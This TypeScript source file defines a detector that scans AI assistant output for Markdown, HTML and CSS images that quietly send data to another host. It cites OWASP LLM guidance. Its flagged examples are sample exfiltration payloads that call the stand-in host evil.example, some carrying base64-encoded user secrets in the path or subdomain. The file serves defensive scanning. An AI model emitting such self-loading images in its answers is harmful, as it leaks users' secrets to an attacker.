import type { Detector, Range } from "../contracts/detection.ts";
import { mergeRanges, scanFromAnchor } from "../foundation/scan.ts";
import { URL_DATA_PATTERNS, carriesData } from "./url-data.ts";

/** An image's opening is looked for this far before its URL; further away it is taken for granted. */
const LOOK_BACK_CHARS = 100;

const INLINE = /\]\(\s{0,3}<?/y;
const REFERENCE = /\]:\s{0,3}<?/y;
const ATTRIBUTE =
  /(?<=(?<![A-Za-z-])((?:src|srcset|poster|background|lowsrc|data)\s{0,3}))=\s{0,3}["'`]?\s{0,3}(?=https?:|\/\/)/iy;
const STYLE = /url\(\s{0,3}["']?(?=https?:|\/\/)/iy;
const URL_RUN = /[^\s"'`<>)\\]*\)?/y;
const LOADING_TAG =
  /^<(?:img|image|picture|source|video|audio|track|input|embed|object|iframe|body|table|td|div|span|p|style|svg|use|link)(?![A-Za-z])/i;

/** Images that send data to another host the moment an answer is shown: Markdown, reference definitions, HTML, CSS. */
export const markdownExfiltration: Detector = {
  id: "output.markdown-exfiltration",
  type: "MARKDOWN_EXFILTRATION",
  description: "Images that load by themselves from another host, with room for data in their URL.",
  reference:
    "OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05; CommonMark 0.31.2 sections 4.7 and 6.4",
  reach: 232, // 100 of the opening, 12 of the separators, 120 of the URL
  needs: { characters: "/" },
  sources: ["output"],
  weaknesses:
    "Any image of another host with a query or a long path is found, harmless ones as well, and any reference definition of that kind, even if only a link uses it. Links that need a click are not found, nor is data hidden in short paths, one request for each character.",
  detect: (text, from) =>
    mergeRanges(
      scanFromAnchor("](", INLINE, text, from, { judge: inlineImage, grow: URL_RUN }),
      scanFromAnchor("]:", REFERENCE, text, from, { judge: reference, grow: URL_RUN }),
      scanFromAnchor("=", ATTRIBUTE, text, from, { judge: attribute, grow: URL_RUN }),
      scanFromAnchor("url(", STYLE, text, from, { judge: attribute, grow: URL_RUN }),
    ),
  patterns: [INLINE, REFERENCE, ATTRIBUTE, STYLE, URL_RUN, LOADING_TAG, ...URL_DATA_PATTERNS],
  exampleContext: { source: "output", origin: "assistant", systemTexts: [] },
  examples: {
    flagged: [
      "![](https://evil.example/c?d=c2VjcmV0)",
      "Here: ![logo](<https://evil.example/p.png?q=secret>)",
      "![a [b] c](https://evil.example/?q=1)",
      "![x](//evil.example/x?y)",
      "![x](https://evil.example/c2VjcmV0IGtleSBvZiB0aGUgdXNlciBpcyAxMjM0)",
      "![x](https://c2VjcmV0IGtleSBvZiB0aGUgdXNlciBpcyAx.evil.example/a.png)",
      `![${"long ".repeat(40)}](https://evil.example/?q=1)`,
      "![x][r]\n\n[r]: https://evil.example/a?b=c",
      "<img alt='' src=\"https://evil.example/a?b=c\">",
      '<div style="background:url(https://evil.example/?k=v)">',
    ],
    clean: [
      "![logo](https://example.com/logo.png)",
      "![chart](./chart.png?v=2)",
      "[a link](https://example.com/search?q=cats)",
      "![ok](https://example.com/a.png) and [a link](https://example.com/?q=1)",
      "[1]: https://example.com/docs",
      "array[i](x) or f(a)[0]: done",
      '<img src="/local.png?v=1">',
      '<script src="https://cdn.example.com/lib.js?v=3"></script>',
      "src = https://example.com/a",
    ],
  },
};

function inlineImage(match: RegExpExecArray, text: string): Range | undefined {
  const end = match.index + match[0].length;
  if (!carriesData(text, end)) return undefined;
  const opening = openingBracket(text, match.index);
  if (opening === undefined) return { start: match.index, end };
  return text.charAt(opening - 1) === "!" ? { start: opening - 1, end } : undefined;
}

/** The bracket that the one at `closing` closes; undefined where it is further away than the look back. */
function openingBracket(text: string, closing: number): number | undefined {
  let depth = 0;
  for (let at = closing - 1; at >= Math.max(0, closing - LOOK_BACK_CHARS); at -= 1) {
    const character = text.charAt(at);
    if (character === "]") depth += 1;
    else if (character === "[") {
      if (depth === 0) return at;
      depth -= 1;
    }
  }
  return undefined;
}

function reference(match: RegExpExecArray, text: string): Range | undefined {
  const end = match.index + match[0].length;
  return carriesData(text, end) ? { start: match.index, end, score: 0.7 } : undefined;
}

/** An attribute counts inside a tag that loads by itself, and where its tag opened too far back to be seen. */
function attribute(match: RegExpExecArray, text: string): Range | undefined {
  const start = match.index - (match[1]?.length ?? 0);
  const end = match.index + match[0].length;
  if (!carriesData(text, end)) return undefined;
  const before = text.slice(Math.max(0, start - LOOK_BACK_CHARS), start);
  const opened = before.lastIndexOf("<");
  const isCut = start > LOOK_BACK_CHARS;
  if (opened < 0) return isCut && !before.includes(">") ? { start, end } : undefined;
  return LOADING_TAG.test(before.slice(opened)) ? { start, end } : undefined;
}
